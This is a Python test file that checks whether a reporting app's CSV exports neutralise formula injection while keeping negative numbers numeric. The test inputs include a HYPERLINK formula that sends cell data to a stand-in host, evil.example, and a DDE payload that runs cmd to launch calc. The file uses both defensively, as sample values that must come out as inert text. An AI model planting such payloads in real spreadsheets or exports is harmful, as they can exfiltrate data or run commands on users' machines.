"""Names that a spreadsheet would run as formulas come out of CSV reports as text, while
negative numbers stay numbers (issue 18, item 4: CSV formula injection)."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.csv_cells import csv_cell
from tests.auth.support import make_org
from tests.conftest import RunningApp
from tests.helpers import make_tenant_key
from tests.plans.test_plans import ADMIN, plan
from tests.reports.support import answered, at, store_facts

TZ = "Europe/Berlin"
HYPERLINK_QUEUE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
DDE_AGENT = "=cmd|' /C calc'!A0"
DAY = {"from": "2024-05-14", "to": "2024-05-14", "format": "csv"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("North", "North"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (-3.5, "-3.5"),
        (0.1, "0.1"),
    ],
)
def test_text_cells_are_neutralised_and_numbers_kept(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


async def test_names_from_events_do_not_become_formulas(app_server: RunningApp) -> None:
    url = app_server.settings.database_url
    tenant_id, key = await make_tenant_key(url, ADMIN, timezone=TZ)
    await make_org(url, tenant_id, {"North": [DDE_AGENT]}, (HYPERLINK_QUEUE,))
    calls = [
        answered(
            f"c{i}",
            HYPERLINK_QUEUE,
            DDE_AGENT,
            "North",
            at(TZ, 2024, 5, 14, 9, i),
            at(TZ, 2024, 5, 14, 9, i, 10),
            300,
        )
        for i in range(5)
    ]
    await store_facts(url, tenant_id, calls)
    async with app_server.client(key) as client:
        made = await client.post("/v1/plans", json=plan(standard=8, maximum=9))
        assert made.status_code == 201, made.text
        by_agent = await client.get("/v1/reports/kpi", params={"group_by": "agent", **DAY})
        by_queue = await client.get("/v1/reports/kpi", params={"group_by": "queue", **DAY})
        by_team = await client.get(
            "/v1/reports/kpi", params={"group_by": "team", "plan": "true", **DAY}
        )
    for response in (by_agent, by_queue, by_team):
        assert response.status_code == 200, response.text
    (agent_row,) = csv.DictReader(io.StringIO(by_agent.text))
    (queue_row,) = csv.DictReader(io.StringIO(by_queue.text))
    (team_row,) = csv.DictReader(io.StringIO(by_team.text))
    assert agent_row["agent"] == "'" + DDE_AGENT
    assert queue_row["queue"] == "'" + HYPERLINK_QUEUE
    assert team_row["answered"] == "5"
    assert float(team_row["answered_deviation"]) == -3.0  # a number, not neutralised text
    for text in (by_agent.text, by_queue.text, by_team.text):
        assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
        assert ",=" not in text
        assert ',"=' not in text
